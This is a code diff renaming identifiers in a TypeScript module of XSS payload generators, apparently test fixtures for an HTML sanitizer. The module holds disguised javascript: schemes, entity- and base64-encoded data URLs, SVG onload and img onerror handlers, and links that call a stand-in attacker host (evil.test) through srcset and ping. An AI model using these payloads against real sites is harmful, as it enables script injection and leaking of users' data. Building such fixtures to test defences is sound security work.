@@ -1,9 +1,9 @@
 // Addresses that run a script or lead elsewhere than they look: schemes in disguise, and ways around "absolute".
-import { EVIL, inBase64, inEntities, type Family } from './payload-family';
+import { ATTACKER_ORIGIN, toBase64, toEntities, type PayloadFamily } from './payload-family';
 
 const link = (address: string) => `<a href="${address}">a</a>`;
 
-export const ADDRESSES: Family = {
+export const ADDRESS_PAYLOADS: PayloadFamily = {
   'a script as an address': (run) => link(`javascript:${run}`),
   'a scheme in mixed case': (run) => link(`JaVaScRiPt:${run}`),
   'spaces before the scheme': (run) => link(`  \n javascript:${run}`),
@@ -15,11 +15,11 @@ export const ADDRESSES: Family = {
   'a null in the scheme': (run) => link(`java\u0000script:${run}`),
   'named entities in the scheme': (run) => link(`java&Tab;scr&NewLine;ipt&colon;${run}`),
   'entities of white space in the scheme': (run) => link(`j&#97;v&#x0A;asc&#0000009;ript:${run}`),
-  'all in decimal entities': (run) => link(inEntities(`javascript:${run}`, 10)),
-  'all in padded decimal entities': (run) => link(inEntities(`javascript:${run}`, 10, 9)),
-  'all in decimal entities without an end': (run) => link(inEntities(`javascript:${run}`, 10, 7, '')),
-  'all in hexadecimal entities': (run) => link(inEntities(`javascript:${run}`, 16)),
-  'all in padded hexadecimal entities without an end': (run) => link(inEntities(`javascript:${run}`, 16, 8, '')),
+  'all in decimal entities': (run) => link(toEntities(`javascript:${run}`, 10)),
+  'all in padded decimal entities': (run) => link(toEntities(`javascript:${run}`, 10, 9)),
+  'all in decimal entities without an end': (run) => link(toEntities(`javascript:${run}`, 10, 7, '')),
+  'all in hexadecimal entities': (run) => link(toEntities(`javascript:${run}`, 16)),
+  'all in padded hexadecimal entities without an end': (run) => link(toEntities(`javascript:${run}`, 16, 8, '')),
   'an address without quotes': (run) => `<a href=javascript:${run}>a</a>`,
   'an address in backticks': (run) => `<a href=\`javascript:${run}\`>a</a>`,
   'a script that looks like an address': (run) => link(`javascript://parley.test/%0a${run}`),
@@ -32,14 +32,14 @@ export const ADDRESSES: Family = {
   'schemes within schemes': (run) =>
     ['view-source', 'feed', 'jar', 'blob', 'filesystem'].map((name) => link(`${name}:javascript:${run}`)).join(''),
   'a page as a data address': (run) => link(`data:text/html,<script>${run}</script>`),
-  'a page as a data address in base64': (run) => link(`data:text/html;base64,${inBase64(`<script>${run}</script>`)}`),
+  'a page as a data address in base64': (run) => link(`data:text/html;base64,${toBase64(`<script>${run}</script>`)}`),
   'a drawing as a data address': (run) =>
     `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
   'a picture that is a script': (run) => `<img src="javascript:${run}">`,
   'a picture under old attributes': (run) =>
     `<img lowsrc="javascript:${run}" dynsrc="javascript:${run}" src=x onerror=${run}>`,
-  'a set of pictures': () => `<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x" sizes="100vw">`,
-  'a link that tells on its readers': () => `<a href="#a" ping="${EVIL}/ping">a</a>`,
+  'a set of pictures': () => `<img srcset="${ATTACKER_ORIGIN}/a.png 1x, ${ATTACKER_ORIGIN}/b.png 2x" sizes="100vw">`,
+  'a link that tells on its readers': () => `<a href="#a" ping="${ATTACKER_ORIGIN}/ping">a</a>`,
   'an address without a scheme': () => link('//evil.test') + '<img src="//evil.test/a.png">',
   'an address with backslashes': () =>
     link('\\\\evil.test') + link('/\\evil.test') + '<img src="\\\\evil.test\\a.png"><img src="/\\evil.test/b.png">',
